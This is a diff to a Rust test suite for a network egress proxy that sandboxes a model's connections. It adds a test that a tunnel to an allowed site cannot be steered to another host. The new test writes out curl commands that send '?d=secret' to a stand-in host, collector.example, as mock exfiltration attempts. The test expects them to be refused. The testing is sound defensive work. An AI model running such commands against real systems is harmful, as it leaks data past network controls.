@@ -24,6 +24,7 @@ pub(crate) fn trials() -> Vec<Trial> {
         trial("allowed_site_is_reached_through_the_proxy", allowed),
         trial("refused_site_gets_nothing_and_the_model_is_told", refused),
         trial("there_is_no_way_past_the_proxy", past_the_proxy),
+        trial("an_allowed_site_leads_to_no_other", other_site),
         trial("programs_left_running_reach_nothing_new", left_running),
         trial("own_servers_are_reached_without_asking", own_server),
         trial("git_clones_from_an_allowed_site", clones),
@@ -51,6 +52,8 @@ impl EgressGate for RecordingGate {
 struct Site {
     address: SocketAddr,
     visits: Arc<AtomicUsize>,
+    /// The first bytes of each visitor.
+    received: Arc<Mutex<Vec<Vec<u8>>>>,
 }
 
 impl Site {
@@ -59,17 +62,24 @@ impl Site {
         let address = listener.local_addr().unwrap();
         let visits = Arc::new(AtomicUsize::new(0));
         let counted = Arc::clone(&visits);
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let kept = Arc::clone(&received);
         thread::spawn(move || {
             for mut visitor in listener.incoming().flatten() {
                 counted.fetch_add(1, Ordering::Relaxed);
                 let mut request = [0; 4096];
-                let _ = visitor.read(&mut request);
+                let count = visitor.read(&mut request).unwrap_or_default();
+                kept.lock().unwrap().push(request[..count].to_vec());
                 let _ = visitor.write_all(
                     b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello",
                 );
             }
         });
-        Self { address, visits }
+        Self {
+            address,
+            visits,
+            received,
+        }
     }
 
     fn visits(&self) -> usize {
@@ -98,7 +108,11 @@ async fn allowed() {
     };
     let site = Site::start();
     room.check(&site.fetch(), "hello").await;
-    let tunnel = format!("curl -sS -p --noproxy '' http://{}/", site.address);
+    // A tunnel, for a protocol that names no site.
+    let tunnel = format!(
+        "echo hi | curl -sS -m 5 -p --noproxy '' telnet://{} | tail -n 1",
+        site.address
+    );
     room.check(&tunnel, "hello").await;
     assert_eq!(site.visits(), 2);
     let asked = gate.asked.lock().unwrap().clone();
@@ -157,6 +171,31 @@ async fn past_the_proxy() {
     assert_eq!(site.visits(), 0);
     assert!(datagrams.recv(&mut [0; 16]).is_err());
     assert_eq!(*gate.asked.lock().unwrap(), []);
+    room.end().await;
+}
+
+/// Many sites share one computer: the tunnel to one must not lead to another.
+async fn other_site() {
+    let Some((room, gate)) = room(true) else {
+        return;
+    };
+    let site = Site::start();
+    let to = format!("--connect-to collector.example::{}", site.address);
+    for attack in [
+        format!("curl -sS -m 5 -k --noproxy '' {to} https://collector.example/?d=secret"),
+        format!("curl -sS -m 5 -p --noproxy '' {to} http://collector.example/?d=secret"),
+    ] {
+        let text = room.text(&attack).await;
+        assert!(text.contains("exit code"), "{attack}: {text}");
+        assert!(text.contains(" was refused: "), "{attack}: {text}");
+    }
+    let received = site.received.lock().unwrap().clone();
+    assert_eq!(received, [b"", b""]);
+    let asked = gate.asked.lock().unwrap().clone();
+    assert!(
+        asked.iter().all(|asked| asked.host == "127.0.0.1"),
+        "{asked:?}"
+    );
     room.end().await;
 }
 
